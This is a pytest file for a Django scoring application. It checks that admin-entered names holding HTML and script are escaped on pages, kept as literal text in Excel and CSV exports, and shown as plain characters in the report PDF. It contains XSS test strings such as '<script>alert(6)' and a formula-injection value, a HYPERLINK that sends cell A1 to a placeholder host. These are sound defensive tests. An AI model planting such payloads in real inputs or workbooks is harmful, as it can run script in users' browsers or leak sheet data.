"""HTML and script in the text an admin maintains (issue 5, bad inputs: "HTML and script in every text field").

tests/test_bad_input_corpus.py covers the text users type on the product's pages. This file covers what the admin
types in /admin/: an indicator's name, a system's name, an organisation's name (and short name) and a user's name,
set here through the ORM as the admin's form would save them, with the audit event the admin leaves. On the demo
data they are then shown by the scoring page, the assessment page, the audit page, the dashboard of a scorer, a
leader and the municipal reviewer, the 评分表 export, the audit export and the report PDF: escaped in the pages,
literal text (never a formula) in the workbooks, the characters themselves in the PDF.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
from decimal import Decimal

import pytest
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Organization, User
from assessment import services as assessment_services
from assessment.models import Indicator, Score, System
from assessment.reports.pdf import build_report_pdf
from audit import services as audit_services
from audit.models import AuditEvent
from tests.assessment.reports import conftest as reports
from tests.test_bad_input_corpus import PAYLOAD, literal_cells

# the demo data and its PKI, from tests/assessment/reports/conftest.py (a conftest of another directory)
demo_ca, signing_p12, xuhui_p12 = reports.demo_ca, reports.signing_p12, reports.xuhui_p12
pki_dir, ca_pem_file, demo = reports.pki_dir, reports.ca_pem_file, reports.demo


def payload(n: int) -> str:
    """The corpus's payload with a number of its own for each field, to tell on a page which field is shown."""
    return PAYLOAD.replace("alert(1)", f"alert({n})")


INDICATOR, SYSTEM, ORGANIZATION, USER = (payload(n) for n in (2, 3, 4, 5))
SHORT = "<script>alert(6)"  # Organization.short_name has 20 characters
FIELDS = {"indicator": INDICATOR, "system": SYSTEM, "organisation": ORGANIZATION, "user": USER, "short": SHORT}
# page → the fields it shows (the organisation and the user's name are in every page's navigation bar)
SHOWN = {
    "dashboard of the scorer": {"indicator", "organisation", "user", "short"},  # the indicator left to score
    "scoring page": {"indicator", "system", "organisation", "user", "short"},  # the user: 评分人 of a score
    "assessment page": {"system", "organisation", "user", "short"},
    "dashboard of the leader": {"system", "organisation", "short"},
    "approved assessment page": {"system", "organisation", "user", "short"},
    "audit page of the leader": {"organisation", "user", "short"},  # the score saved under the new name
    "dashboard of the reviewer": {"short"},  # the districts' table
    # the admin's changes (old → new), the organisation in the filter's list
    "audit page of the reviewer": {"indicator", "system", "organisation", "user", "short"},
}


def escaped(payload: str) -> str:
    """The payload as Django's autoescape writes it (it has no quotes or ampersands to escape)."""
    return payload.replace("<", "&lt;").replace(">", "&gt;")


def admin_saves(actor: User, obj, **values) -> None:
    """What the admin's change form does (accounts/admin.py, audit/admin_hooks.py): save, and record the change."""
    with transaction.atomic():
        before = audit_services.snapshot(type(obj)._default_manager.get(pk=obj.pk))
        for name, value in values.items():
            setattr(obj, name, value)
        obj.save()
        audit_services.record(
            actor=actor,
            action=AuditEvent.Action.UPDATE,
            obj=obj,
            changes=audit_services.diff(before, audit_services.snapshot(obj)),
            note="管理后台",
        )


@pytest.fixture
def renamed(demo, adam):
    """The admin puts the payload into the names of an indicator still to be scored by the demo scorer's department,
    its system, 长宁区 and the demo scorer; the scorer then saves a score (an audit row under the new name)."""
    draft = demo.draft_2024
    scored = Score.objects.filter(assessment=draft, score__isnull=False).values("indicator_id")
    indicator = (
        Indicator.objects.filter(system__standard=draft.standard, responsible_department=demo.scorer.department.name)
        .exclude(pk__in=scored)
        .order_by("system__order", "order")
        .first()
    )
    assert indicator is not None, "the demo has no unscored indicator of the scorer's department"
    admin_saves(adam, indicator, name=INDICATOR)
    admin_saves(adam, System.objects.get(pk=indicator.system_id), name=SYSTEM)
    admin_saves(adam, Organization.objects.get(pk=demo.changning.pk), name=ORGANIZATION, short_name=SHORT)
    admin_saves(adam, demo.scorer, last_name=USER, first_name="")

    other = (
        Indicator.objects.filter(system__standard=draft.standard)
        .exclude(pk__in=scored)
        .exclude(pk=indicator.pk)
        .first()
    )
    assessment_services.save_score(
        assessment=draft, indicator=other, user=demo.scorer, value=Decimal("0"), justification="已整改。"
    )
    return indicator


def page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    content = response.content.decode()
    assert "<script>alert(" not in content and "<img src=x" not in content, url
    return content


def test_admin_entered_names_are_escaped_on_every_page_that_shows_them(client, demo, renamed):
    draft, approved = demo.draft_2024, demo.approved_2023
    client.force_login(demo.scorer)
    pages = {
        "dashboard of the scorer": reverse("home"),
        "scoring page": reverse("assessment:score-sheet", args=[draft.pk]),
        "assessment page": reverse("assessment:detail", args=[draft.pk]),
    }
    shown = {name: page(client, url) for name, url in pages.items()}
    client.force_login(demo.leader)
    pages = {
        "dashboard of the leader": reverse("home"),
        "approved assessment page": reverse("assessment:detail", args=[approved.pk]),
        "audit page of the leader": reverse("audit:list"),
    }
    shown |= {name: page(client, url) for name, url in pages.items()}
    client.force_login(demo.reviewer)
    pages = {"dashboard of the reviewer": reverse("home"), "audit page of the reviewer": reverse("audit:list")}
    shown |= {name: page(client, url) for name, url in pages.items()}

    for name, content in shown.items():
        found = {field for field, text in FIELDS.items() if escaped(text) in content}
        assert found >= SHOWN[name], (name, SHOWN[name] - found)


def test_admin_entered_names_are_literal_text_in_the_score_sheet_and_audit_exports(client, demo, renamed):
    client.force_login(demo.scorer)
    export = client.get(reverse("assessment:export", args=[demo.draft_2024.pk])).content
    cells = literal_cells(export)
    assert {INDICATOR, SYSTEM, ORGANIZATION} <= cells  # the organisation in B2
    assert any(c.startswith(ORGANIZATION) and c.endswith("自评评分表") for c in cells)  # the title
    workbook = load_workbook(io.BytesIO(export))
    assert not [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]

    client.force_login(demo.reviewer)
    audit = client.get(reverse("audit:export-xlsx"))
    assert audit.status_code == 200
    cells = literal_cells(audit.content)
    rows = list(csv.reader(io.StringIO(client.get(reverse("audit:export-csv")).content.decode("utf-8-sig"))))
    values = [value for row in rows for value in row]
    for text in (INDICATOR, SYSTEM, ORGANIZATION, USER):
        assert any(text in cell for cell in cells), text
        assert any(text in value for value in values), text


def test_admin_entered_names_are_plain_text_in_the_report_pdf(demo, renamed, tmp_path):
    demo.report.refresh_from_db()
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(bytes(build_report_pdf(demo.report)))
    text = subprocess.run(["pdftotext", pdf, "-"], capture_output=True, check=True, timeout=60).stdout.decode()
    flat = re.sub(r"\s+", "", text)
    # the indicator and the system in the appended score table, the system in the chart too
    assert re.sub(r"\s+", "", INDICATOR) in flat
    assert flat.count(re.sub(r"\s+", "", SYSTEM)) >= 2
    assert SHORT + "生态环境局规范化考核评分表" in flat  # the appendix title, from the short name
    assert "&lt;" not in text and "&amp;" not in text  # not escaped twice


FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'


def test_admin_entered_names_that_look_like_formulas_stay_text_in_the_score_sheet(client, demo, adam):
    draft = demo.draft_2024
    indicator = Indicator.objects.filter(system__standard=draft.standard).order_by("system__order", "order").first()
    admin_saves(adam, indicator, name=FORMULA)
    admin_saves(adam, System.objects.get(pk=indicator.system_id), name=FORMULA)
    admin_saves(adam, Organization.objects.get(pk=demo.changning.pk), name=FORMULA)
    client.force_login(demo.scorer)
    export = client.get(reverse("assessment:export", args=[draft.pk])).content
    workbook = load_workbook(io.BytesIO(export))
    formulas = [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert FORMULA in literal_cells(export)
